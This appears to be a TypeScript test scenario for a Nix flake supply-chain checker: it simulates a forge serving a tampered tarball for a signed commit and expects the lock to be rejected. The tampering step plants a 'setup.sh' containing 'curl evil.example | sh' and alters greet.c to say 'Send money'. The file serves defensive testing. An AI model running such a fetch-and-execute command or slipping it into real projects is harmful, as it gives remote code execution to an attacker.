/**
 * A flake that takes `pkgs` as an input from a forge. The forge hands out a tarball for a commit: once the commit's
 * files, and once others. Whoever locks the second signs its hash in good faith.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { appLock } from "./packages.ts";
import { ask, type Scene } from "./scene.ts";
import { serve } from "./web.ts";

export async function attackLocks(scene: Scene): Promise<void> {
  const { screen, workplace, people, laptop } = scene;
  screen.begin("Locks: a flake is locked to a signed commit, and the forge serves a tarball of it");
  const forge = workplace.make("forge");
  const url = await serve(workplace, forge);
  const rev = (await people.alice.doesIn("pkgs", "git", "rev-parse", "main")).trim();
  await laptop.does(".", "git", "clone", "-q", "../server/app.git", "app");

  screen.say("· the tarball has the commit's files");
  await makeTarball(scene, forge, rev);
  await lockTo(scene, `${url}/${rev}.tar.gz`, rev);
  await ask(scene, "app", [".#default"], {
    tried: "a lock on the commit's own tree",
    allowed: true,
    code: "admitted",
  });

  screen.say("· the forge serves other files for the same commit");
  await makeTarball(scene, forge, rev, (dir) => {
    const file = join(dir, "greet.c");
    writeFileSync(file, readFileSync(file, "utf8").replace("Good morning", "Send money"));
    writeFileSync(join(dir, "setup.sh"), "curl evil.example | sh\n");
  });
  await lockTo(scene, `${url}/${rev}.tar.gz`, rev);
  const expected = { tried: "a lock on another tree", allowed: false, code: "tree-differs" } as const;
  await ask(scene, "app", [".#default"], expected, [
    "greet.c has other content",
    "setup.sh is in what the lock names only",
  ]);
}

/** Writes what the forge serves for a commit. */
async function makeTarball(
  { people }: Scene,
  forge: string,
  rev: string,
  change = (_: string) => {},
): Promise<void> {
  const { alice } = people;
  await alice.doesIn("pkgs", "git", "archive", "--prefix=pkgs/", `--output=${join(forge, "pkgs.tar")}`, rev);
  await alice.doesIn(forge, "tar", "--extract", "--file=pkgs.tar");
  change(join(forge, "pkgs"));
  await alice.doesIn(forge, "tar", "--create", "--gzip", `--file=${rev}.tar.gz`, "pkgs");
}

/** Nix downloads the tarball and says its hash; alice signs a lock with it, and the laptop pulls that. */
async function lockTo({ people, laptop }: Scene, url: string, rev: string): Promise<void> {
  const { alice } = people;
  const base32 = await laptop.typesOk("app", "nix-prefetch-url", "--unpack", "--name", "source", url);
  const narHash = await laptop.does("app", "nix", "hash", "to-sri", "--type", "sha256", base32.trim());
  const time = await alice.doesIn("pkgs", "git", "log", "-1", "--format=%ct", rev);
  alice.write("app/flake.lock", appLock(rev, Number(time), narHash.trim()));
  await alice.doesIn("app", "git", "add", "flake.lock");
  await alice.typesIn("app", "git", "commit", "-q", "-S", "-m", "lock pkgs");
  await alice.doesIn("app", "git", "push", "-q");
  await laptop.does("app", "git", "pull", "-q");
}
